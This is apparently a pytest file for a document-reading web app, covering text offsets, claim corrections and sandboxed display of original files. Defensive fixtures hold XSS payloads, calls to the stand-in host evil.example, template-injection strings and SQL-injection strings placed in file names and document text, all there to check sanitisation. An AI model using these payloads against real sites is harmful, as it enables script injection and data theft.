"""Documents, the Reader and corrections: exact offsets, decisions shown at once, originals that can do nothing."""

from __future__ import annotations

import io
import json
import re
import struct
import sys
import zlib
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

import stored
from ingest.conftest import hand_pdf, show
from rashomon.casework import add
from rashomon.config import Config
from rashomon.ingest import wall
from rashomon.ingest.format import Member, Parcel
from rashomon.records import Document, Passage, Span
from rashomon.report.marked import clean
from rashomon.store.base import Case
from rashomon.web import boarding, pictures
from rashomon.web.app import create_app
from rashomon.web.desk import Desk
from rashomon.web.manuscript import A_PAGE, lay_out, page_starts
from rashomon.web.people import KeyGate, Role
from rashomon.web.pictures import Pictures, boxes
from rashomon.web.rendering import _environment
from rashomon.web.shapes_reader import Said
from web.live import ACTOR, KEY, RoleGate

HTML = {"accept": "text/html"}

# The text as a browser has it


class Browser(HTMLParser):
    """Reads a page as a browser does, and keeps each text node that stands by itself inside an element with a place."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.nodes: list[tuple[int, str]] = []
        self.strays: list[str] = []
        self._at: list[int | None] = []
        # What a browser does to its input before it reads a sign of it.
        self.feed(page.replace("\r\n", "\n").replace("\r", "\n"))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        start = dict(attrs).get("data-start")
        self._at.append(int(start) if start is not None else None)

    def handle_endtag(self, tag: str) -> None:
        if self._at:
            self._at.pop()

    def handle_data(self, data: str) -> None:
        if self._at and self._at[-1] is not None:
            self.nodes.append((self._at[-1], data))
        elif data.strip() or len(self._at) > 1:
            self.strays.append(data)


def rendered(document: Document, claims: tuple[Said, ...], start: int, end: int) -> Browser:
    macro = _environment().get_template("manuscript.html").module.text  # type: ignore[attr-defined]
    return Browser(str(macro(lay_out(document, claims, start, end), "/documents/d", 1, "", False)))


def a_claim(number: int, *content: tuple[int, int], source: tuple[tuple[int, int], ...] = (), depth: int = 1) -> Said:
    return Said(
        *(f"c{number}", number, "", "asserts", "somebody", "words", depth, "", not source, "person"),
        source=source,
        cue=(),
        content=content,
    )


AWKWARD = st.text(
    st.one_of(
        st.sampled_from(
            "ab<>&\"' \t\n\r\f\v\x00\x85\u2028\u00ad\u200b\ufeff\u0301\u0308\u202e\u2066\u200f🎬👩\u200d🚒𝒳אب"
        ),
        st.characters(exclude_categories=["Cs"]),
    ),
    max_size=80,
).map(lambda text: text.replace("b", "\r\n"))


@settings(max_examples=300, deadline=None)
@given(text=AWKWARD, drawn=st.data())
def test_every_place_on_the_page_is_a_place_in_the_text(text: str, drawn: st.DataObject) -> None:
    def stretch() -> tuple[int, int]:
        first, second = (drawn.draw(st.integers(0, len(text))) for _ in range(2))
        return min(first, second), max(first, second)

    def said(number: int) -> Said | None:
        content = [pair for pair in sorted({stretch(), stretch()}) if pair[0] < pair[1]]
        apart = content if len(content) < 2 or content[0][1] <= content[1][0] else content[:1]
        return a_claim(number, *apart, source=(stretch(),)) if apart else None

    claims = tuple(each for number in range(1, 4) if (each := said(number)) is not None)
    passages = tuple(Passage(Span(*stretch()), "paragraph", place=drawn.draw(st.none() | st.just("B7"))) for _ in "ab")
    document = Document("a", "0" * 64, "text/plain", text, passages=drawn.draw(st.sampled_from([passages, ()])))
    start, end = stretch()
    page = rendered(document, claims, start, end)
    held: dict[int, str] = {}
    for at, node in page.nodes:
        # A script counts in UTF-16 units; taken back to code points, each unit leads to the sign it belongs to.
        units = node.encode("utf-16-le")
        for number, character in enumerate(node):
            before = len(units[: 2 * len(node[:number].encode("utf-16-le")) // 2].decode("utf-16-le"))
            assert before == number
            assert at + number not in held, "one place, one sign"
            held[at + number] = character
    gone = {start + match.start() for match in re.finditer("\r\n", text[start:end])}
    assert sorted(held) == [at for at in range(start, end) if at not in gone]
    assert all(shown == clean(text[at]).replace("\r", "\n") for at, shown in held.items())
    assert all(stray in ("B7",) for stray in page.strays), "nothing else may look like text of the document"


def test_runs_carry_exactly_the_marks_that_cover_them_and_brackets_nest() -> None:
    text = "She said that he said it rained."
    outer, inner = a_claim(1, (9, 31), source=((0, 3),)), a_claim(2, (22, 31), source=((14, 16),), depth=2)
    (block,) = lay_out(Document("a", "0" * 64, "text/plain", text), (outer, inner), 0, len(text))
    found = {run.text: (run.roles, run.claims) for run in block.runs}
    assert found["She"] == (("source",), (1,))
    assert found["he"] == (("content", "source"), (2, 1)), "the innermost claim first"
    assert found["it rained"] == (("content",), (2, 1))
    assert found["."] == ((), ())
    opened = [(claim.number, run.start) for run in block.runs for claim in run.opens]
    closed = [(number, run.start + len(run.text)) for run in block.runs for number in run.closes]
    assert opened == [(1, 9), (2, 22)]
    assert sorted(closed) == [(1, 31), (2, 31)]


@pytest.mark.parametrize("joint", ["\n\n", "\n", " ", "\r\n", ""])
def test_pages_of_a_long_text_are_all_of_it_and_cut_nothing_in_two(joint: str) -> None:
    text = ("word" * 200 + joint) * 600
    starts = page_starts(text)
    assert len(starts) > 2
    assert all(A_PAGE / 2 < b - a <= 1.2 * A_PAGE for a, b in zip(starts, (*starts[1:], len(text)), strict=True))
    assert joint == "" or all(text[:at].endswith(joint) for at in starts[1:])
    assert page_starts("short") == (0,)


# The pages


def claims_of(client: TestClient, name: str) -> tuple[str, list[dict[str, Any]]]:
    """Return the id of the example document with this file name, and its claims."""
    files = client.get("/api/documents", params={"name": name}).json()["files"]
    (document,) = [file["id"] for file in files]
    return document, client.get(f"/api/documents/{document}").json()["claims"]


def test_the_list_has_every_file_with_its_state_and_finds_it_by_name(client: TestClient) -> None:
    everything = client.get("/api/documents").json()
    assert (everything["found"], everything["counts"]["parsed"]) == (8, 8)
    assert [file["claims"] > 0 for file in everything["files"]] == [True] * 8
    for name in ("04-COALITION", "Example Herald", "coalition admits"):
        (found,) = client.get("/api/documents", params={"name": name}).json()["files"]
        assert (found["publisher"], found["published"]) == ("Example Herald", "2017-11-14")
    assert client.get("/api/documents", params={"name": "100%_sure"}).json()["files"] == []
    page = client.get("/documents", params={"name": "nowhere"}, headers=HTML).text
    assert "No document is like that" in page


def test_what_could_not_be_read_is_listed_first_when_asked_with_what_to_try(tmp_path: Path) -> None:
    (tmp_path / "good.txt").write_text("The ministry said that five people were hurt.", encoding="utf-8")
    (tmp_path / "bad.pdf").write_bytes(b"%PDF-1.7\nnothing more")
    mail = "From: a@example.org\nTo: b@example.org\nSubject: files\nMIME-Version: 1.0\n"
    mail += 'Content-Type: multipart/mixed; boundary="x"\n\n--x\n\nSee the annex.\n--x\n'
    mail += 'Content-Type: text/plain\nContent-Disposition: attachment; filename="annex.txt"\n\nIt rained.\n--x--\n'
    (tmp_path / "mail.eml").write_text(mail, encoding="utf-8")
    with Case.create(tmp_path / "case", actor=ACTOR) as case:
        names = [str(tmp_path / name) for name in ("good.txt", "bad.pdf", "mail.eml", "gone.txt")]
        add(case, names, config=Config())
    with (
        Desk(tmp_path / "case", actor=ACTOR) as desk,
        TestClient(create_app(desk, KeyGate(ACTOR, key=KEY), title="t"), base_url="http://127.0.0.1:8410") as client,
    ):
        client.headers["authorization"] = f"Bearer {KEY}"
        found = client.get("/api/documents", params={"order": "worst"}).json()
        assert found["files"][0]["state"] == "failed"
        assert "; " in found["files"][0]["problems"][0], "a reason and what to try"
        assert [each["names"][0].endswith("gone.txt") for each in found["missing"]] == [True]
        by_name = {file["names"][0].rsplit("/", 1)[-1]: file for file in found["files"]}
        (child,) = [file for file in found["files"] if file["parent"]]
        assert by_name["mail.eml"]["children"] == 1
        assert (child["parent"], child["parent_name"]) == (by_name["mail.eml"]["id"], "files")
        assert {f["state"] for f in client.get("/api/documents?state=failed").json()["files"]} == {"failed"}
        page = client.get(f"/documents/{found['files'][0]['id']}", headers=HTML)
        assert page.status_code == 200
        assert "No text was found in this file" in page.text
        assert client.get("/documents/d0000", headers=HTML).status_code == 404


def test_the_text_is_there_whole_with_an_anchor_for_each_claim(client: TestClient, desk: Desk) -> None:
    for name in ("01-", "03-", "04-"):
        document, claims = claims_of(client, name)
        page = client.get(f"/documents/{document}", headers=HTML).text
        now = desk.readings.now(document)
        assert now is not None
        text = now.reading.document.text
        shown = "".join(node for _, node in Browser(page[page.index('<div class="text') :]).nodes)
        assert shown == text
        assert [page.count(f'id="at-{claim["id"]}"') for claim in claims] == [1] * len(claims)
        assert {claim["id"] for claim in claims} == {claim.id for claim in now.reading.claims}


def test_a_claim_in_the_address_is_in_focus_without_any_script(client: TestClient) -> None:
    document, claims = claims_of(client, "03-")
    third = claims[2]
    page = client.get(f"/documents/{document}", params={"claim": third["id"]}, headers=HTML).text
    assert page.count('<article class="claim claim-card') == 1
    assert f'id="claim-{third["id"]}"' in page
    assert re.search(rf'<a class="at here" id="at-{third["id"]}"[^>]*aria-current="true"', page)
    gone = client.get(f"/documents/{document}", params={"claim": "c0"}, headers=HTML)
    assert "not read in this document any more" in gone.text


def test_a_link_to_an_offset_opens_the_page_of_text_that_has_it(client: TestClient, desk: Desk) -> None:
    text = (
        "The Army denied that it was there.\n\n" + "Nothing is said here 🎬.\n\n" * 12_000 + "There were five people."
    )
    document = stored.put(desk.case, text, name="long.txt").document
    at = text.index("five people")
    first = client.get(f"/api/documents/{document}").json()
    assert first["pages"] > 1
    assert len(first["text"]) <= 1.2 * A_PAGE
    found = client.get(f"/api/documents/{document}", params={"at": at, "to": at + 11}).json()
    assert found["page"] == found["pages"]
    assert found["text"][at - found["start"] :].startswith("five people")
    page = client.get(f"/documents/{document}", params={"at": at, "to": at + 11}, headers=HTML).text
    assert "data-sought>five people<" in page
    (said,) = first["claims"]
    waiting = client.get(f"/documents/{document}", params={"claim": said["id"], "page": 2}, headers=HTML).text
    assert "No claim begins on this page" in waiting
    waiting = client.get(f"/documents/{document}", params={"claim": said["id"]}, headers=HTML).text
    assert "not in the last comparison yet" in waiting, "it is told although nothing can be decided about it"


# Corrections


def correct(client: TestClient, claim: str, **told: Any) -> Any:
    return client.post(f"/api/claims/{claim}/corrections", json=told)


def claim_with(client: TestClient, name: str, words: str) -> dict[str, Any]:
    _, claims = claims_of(client, name)
    return next(claim for claim in claims if words in claim["words"])


def test_a_span_that_is_corrected_shows_at_once_and_is_compared(
    client: TestClient, desk: Desk, compared: Callable[[], None]
) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")
    document, _ = claims_of(client, "03-")
    now = desk.readings.now(document)
    assert now is not None
    text = now.reading.document.text
    start = text.index("a few dozen fighters")
    sent = {"start": start, "end": start + len("a few dozen fighters"), "words": "a few  dozen\nfighters"}
    assert correct(client, claim["id"], field="span", why="too wide", **sent).status_code == 201
    again = claim_with(client, "03-", "few dozen fighters")
    assert (again["content"], again["state"]) == ([[start, start + 20]], "corrected")
    assert client.get(f"/api/claims/{claim['id']}").json()["text"] == "a few dozen fighters"
    compared()
    with desk.rows() as rows:
        row = rows.execute("SELECT text, start FROM claim WHERE id = ?", (claim["id"],)).fetchone()
    assert tuple(row) == ("a few dozen fighters", start)


def bounds(claim: Any) -> tuple[float | None, float | None]:
    return claim.quantities[0].low, claim.quantities[0].high


FEW = {"words": "just a few dozen"}
POINT = {"latitude": "35.95", "longitude": "39.01", "country": "sy", "precision": "city"}
CORRECTED: list[tuple[str, dict[str, Any], Callable[[Any], Any], Any]] = [
    ("stance", {"stance": "doubts", "negated": True}, lambda c: (c.stance.value, c.negated), ("doubts", True)),
    ("source", {"name": "A spokesman", "kind": "person"}, lambda c: c.source.canonical, "A spokesman"),
    ("source", {"kind": "author"}, lambda c: c.source.kind.value, "author"),
    ("source", {"kind": "outlet", "words": "The SDF"}, lambda c: (c.source.text, c.source.kind), ("The SDF", "outlet")),
    ("value", {**FEW, "low": "30", "high": "40.5"}, bounds, (30, 40.5)),
    ("value", {**FEW, "high": "1,200"}, bounds, (None, 1200)),
    ("place", {"words": "the city", "name": "Raqqa", **POINT}, lambda c: c.places[0].country, "SY"),
    (
        "date",
        {"words": "managed to leave", "first": "2017-10-14"},
        lambda c: c.times[0].start.isoformat(),
        "2017-10-14",
    ),
]


@pytest.mark.parametrize(("field", "told", "of", "wanted"), CORRECTED)
def test_each_field_can_be_corrected_and_shows_at_once(
    client: TestClient,
    desk: Desk,
    field: str,
    told: dict[str, Any],
    of: Callable[[Any], Any],
    wanted: Any,
) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    document, _ = claims_of(client, "03-")
    answer = correct(client, claim, field=field, **told)
    assert answer.status_code == 201, answer.text
    now = desk.readings.now(document)
    assert now is not None
    assert of(now.claim(claim)) == wanted


def test_an_amount_that_is_corrected_changes_the_sides_of_its_question(
    client: TestClient, compared: Callable[[], None]
) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    assert correct(client, claim, field="value", words="just a few dozen", low="30", high="40").status_code == 201
    facts = client.get(f"/api/claims/{claim}").json()["view"]["facts"]
    assert any("30 to 40" in words and "corrected by" in words for _, words in facts), "told before it is compared"
    compared()
    asked = client.get("/api/overview").json()["questions"]
    (question,) = [each for each in asked if each["text"] == "How many fighters left Raqqa?"]
    assert any("30 to 40" in side["text"] for side in question["sides"])


def test_a_date_is_corrected_from_the_form_of_its_item(client: TestClient, desk: Desk) -> None:
    claim = claim_with(client, "03-", "October 12")["id"]
    items = client.get(f"/api/claims/{claim}/correctable").json()["items"]
    (item,) = [each for each in items if each["field"] == "date"]
    assert item["values"]["first"] == "2017-10-12"
    form = {"field": "date", "start": str(item["start"]), "end": str(item["end"]), "first": "2017-10-13", "last": ""}
    answer = client.post(
        f"/api/claims/{claim}/corrections", data={**form, "seen": "0"}, headers=HTML, follow_redirects=False
    )
    assert (answer.status_code, answer.headers["location"]) == (303, f"/claims/{claim}/correct")
    items = client.get(f"/api/claims/{claim}/correctable").json()["items"]
    assert [each["values"] for each in items if each["field"] == "date"] == [{"first": "2017-10-13", "last": ""}]


def test_a_second_correction_of_the_same_thing_takes_the_place_of_the_first(client: TestClient, desk: Desk) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    document, _ = claims_of(client, "03-")
    first = correct(client, claim, field="value", words="just a few dozen", low="30").json()
    second = correct(client, claim, field="value", words="just a few dozen", low="40").json()
    correct(client, claim, field="stance", stance="doubts")
    kept = {judgement.id: judgement for judgement in desk.case.judgements()}
    assert kept[second["id"]].supersedes == first["id"]
    now = desk.readings.now(document)
    assert now is not None
    assert now.notes == ()
    found = now.claim(claim)
    assert found is not None
    assert (found.quantities[0].low, found.stance.value) == (40, "doubts")
    client.post(f"/api/judgements/{second['id']}/undo")
    again = desk.readings.now(document)
    assert again is not None
    assert next(c for c in again.reading.claims if c.id == claim).quantities[0].low != 40


@pytest.mark.parametrize(
    ("told", "said"),
    [
        ({"field": "span", "words": "the SDF"}, "times near the claim; type more of the words"),
        ({"field": "span", "words": "no such words at all"}, "does not stand near the claim"),
        ({"field": "span", "words": "that just a few dozen fighters managed to leave the city"}, "read already"),
        ({"field": "span"}, "the words are missing"),
        ({"field": "span", "start": 5, "end": 4}, "not a span"),
        ({"field": "span", "start": 0, "end": 10**8}, "the text at"),
        ({"field": "span", "start": 0, "end": 7, "words": "fighters"}, "not the ones given"),
        ({"field": "stance", "stance": "hates"}, "hates"),
        ({"field": "value", "words": "just a few dozen", "low": "9", "high": "3"}, "above high"),
        ({"field": "value", "words": "just a few dozen"}, "needs a bound"),
        ({"field": "value", "words": "just a few dozen", "low": "many"}, "no number"),
        ({"field": "value", "words": "a few dozen", "low": "9"}, "is a part of the amount"),
        ({"field": "value", "words": "a local", "low": "9"}, "does not stand in the words of the claim"),
        ({"field": "value", "low": "9"}, "not said which words"),
        ({"field": "date", "words": "managed", "first": "12 October"}, "no date"),
        ({"field": "place", "words": "the city", "name": "Raqqa", "latitude": "35"}, "both latitude and longitude"),
        ({"field": "source", "kind": "person"}, "not said who the source is"),
        ({"field": "source", "kind": "ghost", "name": "x"}, "ghost"),
        ({"field": "colour"}, "colour"),
        ({"field": "span", "start": "soon"}, "start"),
    ],
)
def test_what_cannot_be_corrected_says_why_and_is_not_recorded(
    client: TestClient, desk: Desk, told: dict[str, Any], said: str
) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    answer = correct(client, claim, **told)
    assert answer.status_code == 422
    assert said in answer.json()["detail"]
    form = client.post(f"/api/claims/{claim}/corrections", data={**told, "why": "I saw it"}, headers=HTML)
    assert form.status_code == 422
    assert "I saw it" in form.text or told["field"] == "colour", "what was typed is still there"
    assert 'role="alert"' in form.text or told["field"] == "colour"
    assert list(desk.case.judgements()) == []


def test_words_in_two_pieces_are_found(client: TestClient, desk: Desk) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    answer = correct(client, claim, field="span", words="dozen fighters … leave the city")
    assert answer.status_code == 201, answer.text
    document, _ = claims_of(client, "03-")
    now = desk.readings.now(document)
    found = now.claim(claim) if now else None
    assert now is not None
    assert found is not None
    assert [span.of(now.reading.document.text) for span in found.content] == ["dozen fighters", "leave the city"]


def test_a_rejected_claim_is_still_in_the_text_and_cannot_be_corrected(client: TestClient, desk: Desk) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    client.post("/api/judgements", json={"kind": "reject", "claim": claim})
    assert claim_with(client, "03-", "few dozen fighters")["state"] == "rejected"
    assert "rejected" in correct(client, claim, field="stance", stance="doubts").json()["detail"]
    assert "Take that back first" in client.get(f"/claims/{claim}/correct", headers=HTML).text


def test_a_colleagues_correction_is_not_overwritten_unseen(client: TestClient, desk: Desk) -> None:
    claim = claim_with(client, "03-", "few dozen fighters")["id"]
    desk.judge({"kind": "accept", "target": desk.target(claim)}, actor="colleague", seen=0)
    assert correct(client, claim, field="stance", stance="doubts", seen=0).status_code == 409
    assert correct(client, claim, field="stance", stance="doubts", seen=1).status_code == 201


# Originals


HOSTILE = """<!doctype html><html lang=en><head><title>t</title><base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/m"><link rel=stylesheet href=//evil.example/l>
<style>p{color:#123456}</style><style><!-- </style><img src=x onerror=alert(1)> --></style>
<script>fetch('//evil.example/s')</script></head>
<body onload="alert(2)" style="color:navy">
<p id=top onclick="alert(3)">The ministry said that <b>five</b> people were hurt, and
<a href="javascript:alert(4)">this</a> <a href="//evil.example/a" target=_top ping=//evil.example/p>that</a>.</p>
<img src="//evil.example/i" onerror="alert(5)" alt="a &quot;fire&quot;">
<iframe srcdoc="<script>alert(6)</script>"></iframe>
<svg><script>alert(7)</script><a xlink:href="//evil.example/x"><text>svg</text></a></svg><math><mtext>m</mtext></math>
<form action=//evil.example/f><input name=q><button formaction=//evil.example/b>go</button></form>
<object data=//evil.example/o></object><embed src=//evil.example/e><video src=//evil.example/v></video>
<noscript><p title="</noscript><img src=x onerror=alert(8)>">n</p></noscript><textarea><img src=x></textarea>
<template><script>alert(9)</script></template><details ontoggle=alert(10) open>d</details>
<p style="background:url(//evil.example/css)">The police said that it was an accident, and nobody else was hurt.</p>
</body></html>"""


class Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture
def hostile(desk: Desk, client: TestClient, tmp_path: Path) -> str:
    """The id of a document whose original is a hostile web page."""
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    add(desk.case, [str(path)], config=Config())
    return str(client.get("/api/documents", params={"name": "hostile"}).json()["files"][0]["id"])


def test_a_hostile_page_is_shown_without_anything_that_acts_or_loads(client: TestClient, hostile: str) -> None:
    answer = client.get(f"/documents/{hostile}/web")
    assert answer.status_code == 200
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'")
    assert "script-src" not in policy
    assert "allow-" not in policy
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    found = Tags(answer.text).found
    assert {tag for tag, _ in found} <= {
        "html",
        "head",
        "meta",
        "style",
        "body",
        "p",
        "b",
        "a",
        "span",
        "noscript",
        "details",
    }
    names = {name for tag, attributes in found for name in attributes if tag != "meta"}
    assert names <= {"lang", "style", "title", "id", "class", "open"}
    assert "five" in answer.text
    assert "picture: a &quot;fire&quot;" in answer.text
    assert "alert(" not in answer.text.replace("javascript:alert(4)", ""), "only where a link led can be read"
    frame = re.search(r"<iframe[^>]*>", client.get(f"/documents/{hostile}", headers=HTML).text)
    assert frame is not None
    assert re.search(r' sandbox src="', frame[0]), "a sandbox with nothing allowed"


def test_a_page_that_is_no_page_or_too_deep_says_so_in_its_frame(
    client: TestClient, desk: Desk, tmp_path: Path
) -> None:
    path = tmp_path / "deep.html"
    path.write_text("<!doctype html><body>" + "<div>" * 20_000 + "<p>It was said that it rained.", encoding="utf-8")
    add(desk.case, [str(path)], config=Config())
    document = client.get("/api/documents", params={"name": "deep"}).json()["files"][0]["id"]
    answer = client.get(f"/documents/{document}/web")
    assert answer.status_code in (200, 422)
    assert answer.headers["content-security-policy"].startswith("sandbox;")
    text, _ = claims_of(client, "03-")
    assert client.get(f"/documents/{text}/web").status_code == 404


def test_originals_are_opened_behind_the_wall_and_never_here(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pypdfium2
    from lxml import html as parser

    def here(*_: object, **__: object) -> None:
        raise AssertionError("an original was opened in the process of the server")

    monkeypatch.setattr(pypdfium2, "PdfDocument", here)
    monkeypatch.setattr(parser, "document_fromstring", here)
    document, claims = claims_of(client, "04-")
    answer = client.get(f"/documents/{document}/leaves/1/picture")
    assert answer.content.startswith(b"\x89PNG")
    web, _ = claims_of(client, "01-")
    assert "<article>" in client.get(f"/documents/{web}/web").text
    assert claims[0]["leaf"] == 1
    beyond = client.get(f"/documents/{document}/leaves/2/picture")
    assert (beyond.headers["content-type"], "it has 1 page;" in beyond.text) == ("image/svg+xml", True)


# A worker that crashes on every page it is to draw, as a reader that was taken over might.
CRASHING = """
import dataclasses, os
from rashomon.ingest import drawing, registry, worker
registry.JOBS.maps[1]["application/x-page"] = dataclasses.replace(drawing.PAGE, read=lambda *_: os.abort())
worker.main()
"""


def test_a_page_that_crashes_its_reader_is_told_and_the_server_goes_on(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(wall, "COMMAND", (sys.executable, "-P", "-c", CRASHING))
    document, _ = claims_of(client, "04-")
    answer = client.get(f"/documents/{document}/leaves/1/picture")
    assert answer.headers["content-type"] == "image/svg+xml"
    assert "crashed" in answer.text, "said where the picture would be"
    assert client.get(f"/documents/{document}", headers=HTML).status_code == 200


def size(png: bytes) -> tuple[int, int]:
    width, height = struct.unpack(">II", png[16:24])
    return width, height


@pytest.mark.parametrize(
    "told",
    [
        {"width": 10**6, "height": 10**6},
        {"width": 3},
        {"width": -2},
        {"width": 2.0},
        {"width": True},
        {"pages": "1"},
        {"matrix": [1, 0, 0, 1, 0]},
        {"matrix": [1, 0, 0, 1, 0, float("inf")]},
        {"matrix": None},
    ],
)
def test_what_comes_from_behind_the_wall_is_checked(told: dict[str, Any]) -> None:
    whole = {"width": 2, "height": 2, "pages": 1, "matrix": [1, 0, 0, 1, 0, 0]}
    good = Parcel(Document("a", "0" * 64, "x/y", json.dumps(whole)), (Member("pixels", bytes(12)),))
    assert size(pictures._drawn(good).png) == (2, 2)
    bad = Parcel(Document("a", "0" * 64, "x/y", json.dumps(whole | told)), (Member("pixels", bytes(12)),))
    with pytest.raises((ValueError, TypeError)):
        pictures._drawn(bad)


@pytest.mark.parametrize("rotate", [0, 90, 180, 270])
def test_frames_stand_around_the_very_words_on_turned_pages_too(tmp_path: Path, rotate: int) -> None:
    from PIL import Image, ImageOps

    path = tmp_path / "turned.pdf"
    path.write_bytes(hand_pdf([show(80, 640, "Alone"), show(300, 200, "Second", 20)], rotate=rotate))
    with Case.create(tmp_path / "case", actor=ACTOR) as case:
        add(case, [str(path)], config=Config())
        (reading,) = case.readings()
        document = reading.document
        drawer = Pictures(case.originals)
        try:
            for number, word in ((1, "Alone"), (2, "Second")):
                start = document.text.index(word)
                drawn = drawer.page(document.sha256, document.media_type, number)
                assert document.glyphs is not None
                (frame,) = boxes(drawn, document.glyphs, number, [Span(start, start + len(word))])
                picture = Image.open(io.BytesIO(drawn.png)).convert("L")
                ink = ImageOps.invert(picture).point(lambda value: 255 if value > 96 else 0).getbbox()
                assert ink is not None
                left, top, right, bottom = ink
                x, y, width, height = frame
                assert x - 3 <= left and right <= x + width + 3, (frame, ink)
                assert y - 3 <= top and bottom <= y + height + 3, (frame, ink)
                assert width * height < 6 * (right - left) * (bottom - top), "the frame is the word's, not the page's"
        finally:
            drawer.close()


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xc8\x14\x14" * width for _ in range(height))
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    secret = chunk(b"tEXt", b"Comment\x00GPS 35.95 39.01")
    return b"\x89PNG\r\n\x1a\n" + head + secret + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def test_a_picture_is_made_anew_from_its_pixels_and_nothing_else_of_it_comes_along(tmp_path: Path) -> None:
    from PIL import Image

    with Case.create(tmp_path / "case", actor=ACTOR) as case:
        data = png(2400, 1800)
        sha256 = case.add_original(data)
        drawer = Pictures(case.originals)
        try:
            drawn = drawer.page(sha256, "image/png", 1)
        finally:
            drawer.close()
    assert (drawn.width, drawn.height) == (2000, 1500)
    assert b"GPS" not in drawn.png
    assert Image.open(io.BytesIO(drawn.png)).getpixel((9, 9)) == (200, 20, 20)
    assert drawn.box(0, 0, 2400, 1800) == (0, 0, 2000, 1500)


@pytest.fixture
def somebody(desk: Desk) -> Callable[[Role], Iterator[TestClient]]:
    def client(role: Role) -> TestClient:
        return TestClient(create_app(desk, RoleGate(role), title="t"), base_url="http://127.0.0.1:8410")

    return client  # type: ignore[return-value]


@pytest.mark.parametrize("role", list(Role))
def test_only_a_lead_takes_the_original_away_and_no_browser_opens_it(
    desk: Desk, client: TestClient, somebody: Callable[[Role], TestClient], role: Role
) -> None:
    document, _ = claims_of(client, "01-")
    with somebody(role) as person:
        page = person.get(f"/documents/{document}", headers=HTML).text
        assert ("Download the original" in page) == (role is Role.LEAD)
        assert ('id="picked"' in page) == (role >= Role.REVIEWER)
        assert person.get(f"/documents/{document}/download").status_code == 405
        assert person.post(f"/documents/{document}/download").status_code == 403, "no form of ours sent it"
        answer = person.post(f"/documents/{document}/download", data={"csrf": "token"})
        assert answer.status_code == (200 if role is Role.LEAD else 403)
    if role is Role.LEAD:
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment; ")
        assert "01-investigation.html" in answer.headers["content-disposition"]
        kept = desk.case.known(answer_sha(answer.content))
        assert kept is not None
        assert kept.id == document


def answer_sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


def test_hostile_words_stay_words_everywhere(tmp_path: Path) -> None:
    words = "<script>alert(1)</script> {{ 7*7 }} \u202ereversed' OR 1=1 --"
    path = tmp_path / "a <img src=x onerror=alert(2)>.txt"
    path.write_text(f'Title: {words}\n\nThe ministry said that "{words}" was written on five walls.', encoding="utf-8")
    with Case.create(tmp_path / "case", actor=ACTOR) as case:
        add(case, [str(path)], config=Config())
        boarding.make(case)
    with (
        Desk(tmp_path / "case", actor=ACTOR) as desk,
        TestClient(create_app(desk, KeyGate(ACTOR, key=KEY), title="t"), base_url="http://127.0.0.1:8410") as client,
    ):
        client.headers["authorization"] = f"Bearer {KEY}"
        (file,) = client.get("/api/documents").json()["files"]
        claim = client.get(f"/api/documents/{file['id']}").json()["claims"][0]["id"]
        for address in ("/documents", f"/documents/{file['id']}", f"/claims/{claim}/correct"):
            page = client.get(address, headers=HTML).text
            assert "<script>alert" not in page
            assert "<img src=x" not in page
            assert "\u202e" not in page
            assert "49 " not in page
        # PostgreSQL and SQLite alike: signs of a pattern are signs.
        assert client.get("/api/documents", params={"name": "' OR 1=1 --"}).json()["found"] in (0, 1)


def test_the_reader_is_described_in_the_api(program: TestClient) -> None:
    paths = program.get("/openapi.json").json()["paths"]
    wanted = {"/api/documents", "/api/documents/{document}", "/api/documents/{document}/leaves/{leaf}"}
    assert wanted | {"/api/claims/{claim}/correctable", "/api/claims/{claim}/corrections"} <= set(paths)


def test_a_reading_is_loaded_again_only_when_it_changed(desk: Desk, client: TestClient, tmp_path: Path) -> None:
    document, claims = claims_of(client, "03-")
    first = desk.readings.now(document)
    assert desk.readings.now(document) is first
    client.post("/api/judgements", json={"kind": "accept", "claim": claims[0]["id"]})
    second = desk.readings.now(document)
    assert second is not first
    assert second is not None
    assert [mark.kind for mark in second.marks[claims[0]["id"]]] == ["accept"]
    assert desk.readings.now("d0") is None


def test_the_case_is_not_touched_by_looking(client: TestClient, desk: Desk) -> None:
    before = desk.case.log.receipt().head
    document, claims = claims_of(client, "04-")
    for address in (f"/documents/{document}", f"/documents/{document}/leaves/1/boxes?claim={claims[0]['id']}"):
        assert client.get(address, headers=HTML).status_code == 200
    assert desk.case.log.receipt().head == before
